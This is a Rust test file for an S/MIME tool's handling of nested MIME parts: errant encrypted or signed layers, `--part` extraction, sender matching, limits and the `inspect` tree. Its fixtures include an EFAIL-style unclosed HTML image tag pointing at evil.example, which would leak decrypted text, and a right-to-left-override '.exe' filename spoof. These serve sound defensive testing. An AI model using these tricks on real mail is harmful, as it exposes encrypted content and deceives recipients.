//! Parts: layers below the root are told of and count for nothing; `--part N` takes one for the message, and nothing else with it.
use crate::support::*;
use smime::policy::Limits;
use std::ffi::OsString;

/// A fixture as a part: only its Content-* fields.
fn part(name: &str) -> Vec<u8> {
    entity(&fixture_bytes(name))
}

fn entity(message: &[u8]) -> Vec<u8> {
    let text = String::from_utf8(message.to_vec()).unwrap();
    let (header, body) = text.split_once("\n\n").unwrap();
    let mut kept = String::new();
    let mut keep = false;
    for line in header.lines() {
        if !line.starts_with([' ', '\t']) {
            keep = line.starts_with("Content-");
        }
        if keep {
            kept += line;
            kept.push('\n');
        }
    }
    format!("{kept}\n{body}").into_bytes()
}

/// A multipart of these parts, from Alice.
fn mixed(kind: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut message =
        format!("From: alice@example.com\nTo: bob@example.com\nSubject: outer\nMIME-Version: 1.0\nContent-Type: multipart/{kind}; boundary=\"=_mixed\"\n\n")
            .into_bytes();
    message.extend(multipart_body("=_mixed", parts));
    message
}

fn multipart_body(boundary: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut body = Vec::new();
    for part in parts {
        body.extend_from_slice(format!("--{boundary}\n").as_bytes());
        body.extend_from_slice(part);
        body.push(b'\n');
    }
    body.extend_from_slice(format!("--{boundary}--\n").as_bytes());
    body
}

fn nested(kind: &str, boundary: &str, parts: &[&[u8]]) -> Vec<u8> {
    let mut entity =
        format!("Content-Type: multipart/{kind}; boundary={boundary}\n\n").into_bytes();
    entity.extend(multipart_body(boundary, parts));
    entity
}

/// A message in a part.
fn forwarded(message: &[u8]) -> Vec<u8> {
    [b"Content-Type: message/rfc822\n\n", message].concat()
}

const TEXT: &[u8] = b"Content-Type: text/html\n\n<img src=\"http://evil.example/";

fn bob() -> Vec<OsString> {
    args!["-i", fixture("identities/bob.pem")]
}

fn with_certs() -> Vec<OsString> {
    join(&[&trusting(), &args!["-c", fixture("certs/intermediate.pem")]])
}

fn run(verb: &str, options: &[OsString], message: &[u8]) -> Run {
    smime(join(&[&args![verb, "--json"], options]))
        .input(message)
        .run()
}

fn report(run: &Run) -> serde_json::Value {
    let text = match run.stderr.is_empty() {
        true => run.text(),
        false => run.stderr.clone(),
    };
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {run:?}"))
}

/// The findings of a rule about the message.
fn found(run: &Run, rule: &str) -> Vec<serde_json::Value> {
    let report = report(run);
    let findings = report["findings"].as_array().unwrap().clone();
    findings.into_iter().filter(|f| f["rule"] == rule).collect()
}

#[test]
fn an_encrypted_part_is_told_of_and_not_opened() {
    let secret = part("messages/encrypted-rsa-cbc.eml");
    for kind in ["mixed", "alternative", "related"] {
        let message = mixed(kind, &[TEXT, &secret, b"\n\">"]);
        for verb in ["decrypt", "open"] {
            let run = run(verb, &join(&[&bob(), &args!["-o", "-"]]), &message).expect(1);
            assert!(run.stdout.is_empty(), "{run:?}");
            let errant = found(&run, "errant-layer");
            assert_eq!(errant.len(), 1, "{run:?}");
            assert_eq!(errant[0]["part"], "1.2");
            assert_eq!(
                errant[0]["message"],
                "part 1.2 is encrypted for itself: it was not opened, and does not count"
            );
        }
        let run = run("verify", &with_certs(), &message).expect(1);
        assert_eq!(found(&run, "not-signed").len(), 1);
        assert_eq!(found(&run, "errant-layer").len(), 1);
    }
}

#[test]
fn the_hint_leads_to_the_part_alone() {
    let dir = Dir::new();
    let secret = part("messages/encrypted-rsa-cbc.eml");
    dir.write("m.eml", mixed("mixed", &[TEXT, &secret, b"\n\">"]));
    std::fs::copy(fixture("identities/bob.pem"), dir.file("bob.pem")).unwrap();
    let first = smime(args!["decrypt", "-i", "bob.pem", "m.eml"])
        .dir(dir.path())
        .run()
        .expect(1);
    let hint = "smime decrypt --part 1.2 -i bob.pem m.eml";
    assert!(first.stderr.contains(&format!(": {hint}\n")), "{first:?}");
    let words: Vec<OsString> = hint.split(' ').skip(1).map(OsString::from).collect();
    let run = smime(words).dir(dir.path()).run().expect(0);
    // the part, and nothing of what is around it
    for other in ["evil.example", "From:", "outer", "--=_mixed"] {
        assert!(!run.text().contains(other), "{other}: {run:?}");
    }
    let alone = smime(join(&[&args!["decrypt", "-q"], &bob()]))
        .input(part("messages/encrypted-rsa-cbc.eml"))
        .run()
        .expect(0);
    assert_eq!(run.text(), alone.text());
    assert!(run.stderr.contains("partial"), "{run:?}");
}

#[test]
fn a_signed_part_is_judged_alone_under_the_from_of_the_message() {
    for (signed, form) in [
        ("messages/clear.eml", "clear"),
        ("messages/opaque.eml", "opaque"),
    ] {
        let inner = nested("mixed", "inner", &[b"\nlist footer", &part(signed)]);
        let message = mixed("mixed", &[b"\nhello", &inner]);
        let whole = run("verify", &with_certs(), &message).expect(1);
        assert_eq!(
            found(&whole, "errant-layer")[0]["part"],
            "1.2.2",
            "{whole:?}"
        );
        for verb in ["verify", "open"] {
            let options = join(&[&with_certs(), &args!["--part", "1.2.2", "-o", "-"]]);
            let run = run(verb, &options, &message).expect(0);
            let report = report(&run);
            assert_eq!(report["part"], "1.2.2");
            assert_eq!(report["verdict"], "pass");
            assert_eq!(report["layers"][0]["form"], form);
            assert_eq!(report["layers"][0]["signatures"][0]["sender"], "match");
            let partial = found(&run, "partial");
            assert_eq!(partial[0]["level"], "warn");
            assert_eq!(partial[0]["part"], "1.2.2");
            assert!(!run.text().contains("footer") && !run.text().contains("Subject: outer"));
        }
        // negative twins: another sender, another part, a changed one
        let other = String::from_utf8(message.clone()).unwrap();
        let other = other.replacen("alice@example.com", "mallory@example.com", 1);
        let options = join(&[&with_certs(), &args!["--part", "1.2.2"]]);
        let run = run("verify", &options, other.as_bytes()).expect(1);
        assert_eq!(
            report(&run)["layers"][0]["signatures"][0]["sender"],
            "mismatch"
        );
        for number in ["1", "1.1", "1.2", "1.2.1"] {
            let options = join(&[&with_certs(), &args!["--part", number]]);
            let run = self::run("verify", &options, &message).expect(1);
            assert_eq!(found(&run, "not-signed").len(), 1, "{number}: {run:?}");
        }
    }
}

#[test]
fn a_forwarded_message_is_judged_under_its_own_from() {
    let signed = fixture_bytes("messages/clear.eml");
    let from_mallory = |message: Vec<u8>| {
        let text = String::from_utf8(message).unwrap();
        assert!(text.contains("alice@example.com"));
        text.replacen("alice@example.com", "mallory@example.com", 1)
            .into_bytes()
    };
    let message = from_mallory(mixed("mixed", &[b"\nreport", &forwarded(&signed)]));
    let whole = run("verify", &with_certs(), &message).expect(1);
    assert_eq!(found(&whole, "errant-layer")[0]["part"], "1.2.1");
    for number in ["1.2", "1.2.1"] {
        let options = join(&[&with_certs(), &args!["--part", number]]);
        let run = run("verify", &options, &message).expect(0);
        assert_eq!(report(&run)["part"], "1.2.1");
        let partial = found(&run, "partial");
        let said = partial[0]["message"].as_str().unwrap();
        assert!(said.contains("forwarded message"), "{said}");
    }
    // the forwarded one is from another than who signed it
    let forged = from_mallory(mixed(
        "mixed",
        &[b"\nreport", &forwarded(&from_mallory(signed))],
    ));
    let forged = String::from_utf8(forged).unwrap();
    let forged = forged.replacen("mallory@", "alice@", 1);
    let options = join(&[&with_certs(), &args!["--part", "1.2"]]);
    let run = run("verify", &options, forged.as_bytes()).expect(1);
    assert_eq!(
        report(&run)["layers"][0]["signatures"][0]["sender"],
        "mismatch"
    );
}

#[test]
fn a_message_in_base64_is_one_too() {
    let signed = fixture_bytes("messages/clear.eml");
    let mut base64 =
        b"Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n".to_vec();
    for line in data_encoding::BASE64.encode(&signed).as_bytes().chunks(76) {
        base64.extend_from_slice(line);
        base64.push(b'\n');
    }
    let digest = nested("digest", "d", &[&[b"\n", &signed[..]].concat()]);
    let message = mixed("mixed", &[&base64, &digest]);
    for number in ["1.1", "1.2.1"] {
        let options = join(&[&with_certs(), &args!["--part", number]]);
        let run = run("verify", &options, &message).expect(0);
        assert_eq!(report(&run)["part"], format!("{number}.1"));
    }
}

#[test]
fn layers_in_a_signed_content_are_told_of() {
    let secret = part("messages/encrypted-rsa-cbc.eml");
    let content = mixed("mixed", &[b"\nhello", &secret]);
    for opaque in [false, true] {
        let options = if opaque { args!["--opaque"] } else { args![] };
        let signed = smime(join(&[&args!["sign", "-q"], &as_alice(), &options]))
            .input(content.clone())
            .run()
            .expect(0)
            .stdout;
        for verb in ["verify", "open"] {
            let options = join(&[&with_certs(), &args!["-o", "-"]]);
            let run = run(verb, &options, &signed).expect(0);
            let errant = found(&run, "errant-layer");
            assert_eq!(errant[0]["part"], "1.1.2", "{run:?}");
            // what came out has it as it was
            assert!(run.text().contains("application/pkcs7-mime"));
            let hint = errant[0]["hint"].as_str().unwrap();
            let (_, command) = hint.split_once(": ").unwrap();
            match opaque {
                false => assert!(command.starts_with("smime open --part 1.1.2 "), "{hint}"),
                // no number of the message leads into the object
                true => {
                    let (first, then) = command.split_once(" && ").unwrap();
                    assert!(
                        first.starts_with(&format!("smime {verb} -o FILE")),
                        "{hint}"
                    );
                    assert!(then.starts_with("smime open --part 1.2 "), "{hint}");
                    assert!(then.ends_with(" FILE"), "{hint}");
                }
            }
        }
    }
}

#[test]
fn what_is_no_layer_is_not_told_of() {
    let inner = part("messages/clear.eml");
    let signed = [b"From: alice@example.com\n", &inner[..]].concat();
    // a signature around a signature, and its signature part, are no errant layers
    let twice = smime(join(&[&args!["sign", "-q"], &as_alice()]))
        .input(signed)
        .run()
        .expect(0)
        .stdout;
    for verb in ["verify", "open"] {
        let run = run(verb, &with_certs(), &twice).expect(0);
        assert!(found(&run, "errant-layer").is_empty(), "{run:?}");
    }
    let plain = mixed(
        "mixed",
        &[b"Content-Type: multipart/signed; boundary=x; protocol=\"application/pgp-signature\"\n\n--x\n\nhi\n--x\nContent-Type: application/pgp-signature\n\nx\n--x--\n"],
    );
    let run = run("verify", &with_certs(), &plain).expect(1);
    assert!(found(&run, "errant-layer").is_empty(), "{run:?}");
}

#[test]
fn a_part_that_is_not_there() {
    let message = mixed("mixed", &[b"\nhello", &part("messages/clear.eml")]);
    for number in ["1.3", "1.1.1", "1.2.3", "1.99999999999"] {
        let options = join(&[&with_certs(), &args!["--part", number]]);
        let run = run("verify", &options, &message).expect(3);
        let report = report(&run);
        assert_eq!(report["error"]["code"], "no-part");
        assert_eq!(
            report["error"]["message"],
            format!("the message has no part {number}")
        );
        assert!(
            report["error"]["hints"][0]
                .as_str()
                .unwrap()
                .contains("smime inspect")
        );
    }
    // the message itself is part 1
    let whole = fixture_bytes("messages/clear.eml");
    let run = run(
        "verify",
        &join(&[&with_certs(), &args!["--part", "1"]]),
        &whole,
    )
    .expect(0);
    assert!(found(&run, "partial").is_empty());
    for number in ["0", "2", "1.0", "x", "", "1."] {
        let options = join(&[&with_certs(), &args!["--part", number]]);
        self::run("verify", &options, &message).expect(2);
    }
    let run = smime(join(&[
        &args!["verify", "--part", "1.2", "--content", "x"],
        &trusting(),
    ]))
    .run()
    .expect(2);
    assert!(run.stderr.contains("--content"), "{run:?}");
}

#[test]
fn an_error_names_the_part() {
    let mut cut = part("messages/encrypted-rsa-cbc.eml");
    cut.truncate(cut.len() - 100);
    let message = mixed("mixed", &[b"\nhello", &cut]);
    let options = join(&[&bob(), &args!["--part", "1.2"]]);
    let cut = run("decrypt", &options, &message).expect(3);
    let report = report(&cut);
    assert_eq!(report["error"]["code"], "truncated", "{report}");
    assert_eq!(report["error"]["part"], "1.2");
    assert!(
        report["error"]["offset"].as_u64().unwrap() > 100,
        "{report}"
    );
    let run = smime(join(&[&args!["decrypt"], &options]))
        .input(message)
        .run();
    assert!(run.stderr.contains("(part 1.2, byte "), "{run:?}");
}

#[test]
fn parts_are_bounded() {
    let limits = Limits::default();
    let open = |message: &[u8], options: &[OsString]| {
        run("open", &join(&[&with_certs(), options]), message)
    };
    let many = |n: usize| mixed("mixed", &vec![&b"\nx"[..]; n]);
    open(&many(limits.parts), &[]).expect(1);
    let over = open(&many(limits.parts + 1), &[]).expect(3);
    assert_eq!(
        report(&over)["error"]["message"],
        "parts of the message exceed the limit of 10000"
    );
    let deep = |n: usize| {
        let mut inner = b"\nx".to_vec();
        for level in 1..n {
            inner = nested("mixed", &format!("b{level}."), &[&inner]);
        }
        mixed("mixed", &[&inner])
    };
    open(&deep(limits.part_depth), &[]).expect(1);
    let over = open(&deep(limits.part_depth + 1), &[]).expect(3);
    assert_eq!(
        report(&over)["error"]["message"],
        "parts in parts exceed the limit of 32"
    );
    // on the way to a part, too
    let number = |n: usize| args!["--part", format!("1{}", ".1".repeat(n))];
    open(&deep(limits.part_depth), &number(limits.part_depth)).expect(1);
    open(&deep(limits.part_depth + 1), &number(limits.part_depth + 1)).expect(3);
    open(&many(limits.parts), &args!["--part", "1.10000"]).expect(1);
    open(&many(limits.parts + 1), &args!["--part", "1.10001"]).expect(3);
    let signed = part("messages/clear.eml");
    let run = open(&mixed("mixed", &vec![&signed[..]; 40]), &[]).expect(1);
    assert_eq!(found(&run, "errant-layer").len(), 17);
}

fn inspected(message: &[u8]) -> String {
    smime(args!["inspect"])
        .input(message)
        .run()
        .expect(0)
        .text()
}

/// The lines of the tree, without what is said of layers.
fn tree(text: &str) -> Vec<&str> {
    let lines = text.lines().skip_while(|line| *line != "parts").skip(1);
    lines
        .filter(|line| line.contains("  1") || line.contains("── 1"))
        .collect()
}

#[test]
fn inspect_draws_the_tree() {
    let hostile = b"Content-Type: application/octet-stream; name=\"a\xe2\x80\xae.exe\"\nContent-Transfer-Encoding: base64\n\nAAAA";
    let inner = nested(
        "mixed",
        "inner",
        &[b"\nlist footer", &part("messages/opaque.eml")],
    );
    let secret = part("messages/encrypted-three.eml");
    let broken = b"Content-Type: application/pkcs7-mime; name=smime.p7m\nContent-Transfer-Encoding: base64\n\nMIIB";
    let signed = fixture_bytes("messages/clear.eml");
    let message = mixed(
        "mixed",
        &[hostile, &inner, &secret, broken, &forwarded(&signed)],
    );
    let text = inspected(&message);
    assert!(
        text.starts_with("not protected: neither signed nor encrypted\nparts\n"),
        "{text}"
    );
    let lines = tree(&text);
    let begins = [
        "  1  multipart/mixed, ",
        "  ├── 1.1  application/octet-stream \"a\\u{202e}.exe\", 4 bytes, base64",
        "  ├── 1.2  multipart/mixed, ",
        "  │   ├── 1.2.1  text/plain, 11 bytes, 7bit",
        "  │   └── 1.2.2  application/pkcs7-mime \"smime.p7m\", 3.",
        "  │       └── 1.2.2.1  text/plain, ",
        "  ├── 1.3  application/pkcs7-mime \"smime.p7m\", 1.",
        "  ├── 1.4  application/pkcs7-mime \"smime.p7m\", 4 bytes, base64: unreadable: ",
        "  └── 1.5  message/rfc822, ",
        "      └── 1.5.1  multipart/signed, ",
        "          ├── 1.5.1.1  text/plain, ",
        "          └── 1.5.1.2  application/pkcs7-signature \"smime.p7s\", ",
    ];
    assert_eq!(lines.len(), begins.len(), "{text}");
    for (line, begin) in lines.iter().zip(begins) {
        assert!(line.starts_with(begin), "{line}\n{begin}");
    }
    assert!(
        lines[4].ends_with(": signed (opaque), 1 signature"),
        "{text}"
    );
    assert!(
        lines[6].ends_with(": encrypted to 3 recipients, aes-128-cbc"),
        "{text}"
    );
    // whose signature it is and who can read, without any key
    assert!(text.contains("│   signer   CN=Alice Example"), "{text}");
    assert_eq!(text.matches("  to       serial ").count(), 3, "{text}");

    let document = smime(args!["inspect", "--json"])
        .input(message)
        .run()
        .json();
    assert_eq!(document["layers"].as_array().unwrap().len(), 0);
    let root = &document["parts"][0];
    assert_eq!(root["parts"].as_array().unwrap().len(), 5);
    let secret = &root["parts"][2];
    assert_eq!(secret["part"], "1.3");
    assert_eq!(secret["errant_layer"]["cipher"], "aes-128-cbc");
    assert_eq!(
        root["parts"][1]["parts"][1]["errant_layer"]["kind"],
        "signed"
    );
    assert_eq!(root["parts"][0]["name"], "a\u{202e}.exe");
    assert!(root["parts"][3]["unreadable"].is_string());
}

#[test]
fn the_tree_goes_through_layers_that_need_no_key() {
    let content = mixed(
        "mixed",
        &[b"\nhello", &part("messages/encrypted-rsa-cbc.eml")],
    );
    let sign = |options: &[OsString], message: &[u8]| {
        smime(join(&[&args!["sign", "-q"], &as_alice(), options]))
            .input(message)
            .run()
            .expect(0)
            .stdout
    };
    let twice = sign(&args!["--opaque", "--compress"], &sign(&[], &content));
    let document = smime(args!["inspect", "--json"])
        .input(twice.clone())
        .run()
        .json();
    let mut here = &document["parts"][0];
    for (number, layer) in [("1", 0), ("1.1", 1), ("1.1.1", 2)] {
        assert_eq!(
            (here["part"].as_str(), here["layer"].as_u64()),
            (Some(number), Some(layer))
        );
        here = &here["parts"][0];
    }
    let kinds: Vec<_> = document["layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["signed", "compressed", "signed"]);
    assert_eq!(here["content_type"], "multipart/mixed");
    assert_eq!(here["parts"][1]["part"], "1.1.1.1.2");
    assert_eq!(here["parts"][1]["errant_layer"]["kind"], "encrypted");
    // what is encrypted is a leaf
    let sealed = fixture_bytes("messages/encrypted-rsa-cbc.eml");
    let text = inspected(&sealed);
    let lines = tree(&text);
    assert_eq!(lines.len(), 1, "{text}");
    assert!(
        lines[0].ends_with(": encrypted to 1 recipient, aes-256-cbc"),
        "{text}"
    );
    // and an object without a header
    let der = smime(args![
        "sign",
        "-q",
        "--binary",
        "--format",
        "der",
        "-i",
        fixture("identities/alice.pem")
    ])
    .input(b"x".to_vec())
    .run()
    .expect(0)
    .stdout;
    let text = inspected(&der);
    assert!(tree(&text)[0].starts_with("  1  no header, "), "{text}");
}

#[test]
fn an_error_in_a_signature_names_its_part() {
    let signed = fixture_bytes("messages/clear.eml");
    let object = signed.windows(4).position(|w| w == b"\nMII").unwrap();
    let run = run("verify", &with_certs(), &signed[..object + 200]).expect(3);
    let report = report(&run);
    assert_eq!(report["error"]["part"], "1.2", "{report}");
    assert_eq!(report["error"]["code"], "truncated");
    // what is wrong with the message itself is wrong in no part
    let mut opaque = fixture_bytes("messages/opaque.eml");
    opaque.truncate(opaque.len() - 300);
    let run = self::run("verify", &with_certs(), &opaque).expect(3);
    let report = self::report(&run);
    assert!(report["error"].get("part").is_none(), "{report}");
    assert!(
        report["error"]["offset"].as_u64().unwrap() > 100,
        "{report}"
    );
}

#[test]
fn a_summary_has_six_lines_at_most() {
    let mut signed = fixture_bytes("messages/plain.eml");
    for n in 0..6 {
        let how = if n == 0 { args![] } else { args!["--add"] };
        signed = smime(join(&[&args!["sign", "-q"], &as_alice(), &how]))
            .input(signed)
            .run()
            .expect(0)
            .stdout;
    }
    let verify = |options: &[OsString], message: &[u8]| {
        smime(join(&[&args!["verify"], options]))
            .input(message)
            .run()
    };
    let run = verify(&with_certs(), &signed).expect(0);
    let text = run.text();
    let lines: Vec<_> = text.lines().collect();
    assert_eq!(lines.len(), 6, "{text}");
    assert_eq!(lines[0], "everything asked for holds");
    assert_eq!(lines[1], "good signature of alice@example.com");
    assert!(
        lines[5].starts_with("  and ") && lines[5].ends_with(" more lines: --json"),
        "{text}"
    );
    // what is wrong comes before what is not
    let other =
        String::from_utf8(signed)
            .unwrap()
            .replacen("alice@example.com", "mallory@example.com", 1);
    let run = verify(&with_certs(), other.as_bytes()).expect(1);
    let text = run.text();
    assert!(
        text.starts_with("NOT verified\nsignature NOT accepted: sender-mismatch\n"),
        "{text}"
    );
    assert_eq!(text.lines().count(), 6, "{text}");
    // one signature: who signed, who vouches, what is wrong
    let run = verify(&with_certs(), &fixture_bytes("messages/clear.eml")).expect(0);
    let text = run.text();
    let lines: Vec<_> = text.lines().collect();
    assert_eq!(lines[0], "good signature of alice@example.com");
    assert!(
        lines[1].starts_with("  signed   by CN=Alice Example,"),
        "{text}"
    );
    assert!(
        lines[2].starts_with("  trusted  by CN=Fixtures Root CA,"),
        "{text}"
    );
    assert!(lines[3].starts_with("  warning  "), "{text}");
}

/// A detached content that a message has no use for is not passed over, whatever else is told of the message.
#[test]
fn content_that_is_not_wanted_is_refused_though_there_are_findings() {
    let dir = Dir::new();
    let errant = mixed("mixed", &[TEXT, &part("messages/encrypted-rsa-cbc.eml")]);
    let signed = smime(join(&[&args!["sign", "-q"], &as_alice()]))
        .input(errant)
        .run()
        .expect(0)
        .stdout;
    let signed = dir.write("signed.eml", &signed);
    let other = dir.write("contract.txt", b"never looked at");
    let verify = join(&[&args!["verify", "--json"], &with_certs()]);
    let report = smime(join(&[&verify, &args![&signed]]))
        .run()
        .expect(0)
        .json();
    assert!(report.to_string().contains("errant-layer"), "{report}");
    let run = smime(join(&[&verify, &args!["--content", &other, &signed]])).run();
    assert_eq!(run.expect(3).json()["error"]["code"], "content-not-wanted");
}
